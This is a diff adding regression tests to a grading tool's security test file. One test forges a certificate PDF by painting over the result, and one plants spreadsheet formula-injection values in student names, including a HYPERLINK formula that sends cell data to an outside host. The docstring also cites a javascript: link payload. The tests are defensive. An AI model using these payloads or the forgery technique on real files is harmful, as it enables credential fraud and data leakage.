@@ -10,6 +10,13 @@ outside the kernel, models crossing only as recipes), each kept as a test of its
 2. The feedback page escaped a student's Markdown HTML but kept its links: ``[x](javascript:...)``
    became a live ``javascript:`` link. Links and images now keep only http(s), mailto and
    relative addresses.
+3. A certificate PDF with a result painted over (a white box, then "Overall: 12/12 (100 %) - with
+   distinction") verified as VALID: ``check_pdf`` compared only the metadata and looked for the
+   name, code and course in the text. Its pages are now compared with the certificate rendered
+   again from the ledger.
+4. ``grader export`` (csv, Canvas, Moodle) and the certificate ledger's CSV wrote the roster's
+   names as they are: a name a student typed into the LMS (``=HYPERLINK(...)``) became a formula
+   in the instructor's spreadsheet. Every cell now gets grades.csv's guard.
 """
 
 from __future__ import annotations
@@ -64,3 +71,63 @@ def test_a_feedback_page_keeps_no_javascript_link_from_the_students_markdown():
     page = render(nb, resources, None, grades={"cells": {}, "score": 0, "max_score": 5})
     assert "my answer" in page and "ref" in page
     assert live_markup(page) == [], live_markup(page)
+
+
+def test_a_certificate_with_a_result_painted_over_is_invalid(tmp_path):
+    from fpdf import FPDF
+    from pypdf import PdfReader, PdfWriter
+
+    from grader import certify
+
+    key = tmp_path / "certificate.key"
+    key.write_text("ab" * 32)
+    key.chmod(0o600)
+    body = {"version": 1, "student_id": "mallory", "name": "Mallory", "course": "A course",
+            "issuer": "Test issuer", "date": "2026-11-29", "results": [["01-why-interpret", 6.0, 12.0]],
+            "overall": [6.0, 12.0]}
+    code = certify.sign(body, key.read_text().encode())
+    pdf = certify.write_pdf(tmp_path / "mallory.pdf", body, code)
+    certify.write_ledger(tmp_path, [{"code": code, "content": body, "pdf": pdf.name}])
+    ledger = tmp_path / "ledger.json"
+    assert certify.check_pdf(pdf, ledger, secret_file=key).valid
+
+    overlay = FPDF(orientation="L", unit="mm", format="A4")
+    overlay.add_page()
+    overlay.set_fill_color(255, 255, 255)
+    overlay.rect(40, 95, 220, 20, style="F")
+    overlay.set_font("helvetica", "B", 11)
+    overlay.set_xy(10, 100)
+    overlay.cell(277, 7, "Overall: 12/12 (100 %) - with distinction", align="C")
+    overlay.output(str(tmp_path / "overlay.pdf"))
+    writer = PdfWriter(clone_from=str(pdf))
+    writer.pages[0].merge_page(PdfReader(str(tmp_path / "overlay.pdf")).pages[0])
+    edited = tmp_path / "edited.pdf"
+    with open(edited, "wb") as fh:
+        writer.write(fh)
+    result = certify.check_pdf(edited, ledger, secret_file=key)
+    assert not result.valid and "edited" in result.message, result.message
+    # the code alone still verifies (the ledger is intact): the file is what was changed
+    assert certify.check(code, ledger, secret_file=key).valid
+
+
+@pytest.mark.parametrize("fmt", ["csv", "canvas", "moodle"])
+def test_an_exported_name_never_starts_a_formula(tmp_path, fmt):
+    import csv
+
+    from nbgrader.api import Gradebook
+
+    from grader.config import ensure_env_bin_on_path
+    from grader.export import export
+
+    ensure_env_bin_on_path()
+    url = f"sqlite:///{tmp_path / 'gradebook.db'}"
+    evil = '=HYPERLINK("http://example.org/?"&A1,"x")'
+    with Gradebook(url) as gb:
+        gb.add_assignment(AID)
+        gb.add_student("s1", first_name=evil, last_name="+SUM(1)", email="@cmd")
+    out = tmp_path / f"grades-{fmt}.csv"
+    export(out, db_url=url, fmt=fmt)
+    with open(out, newline="", encoding="utf-8") as fh:
+        cells = [c for row in csv.reader(fh) for c in row]
+    assert any("HYPERLINK" in c for c in cells)
+    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
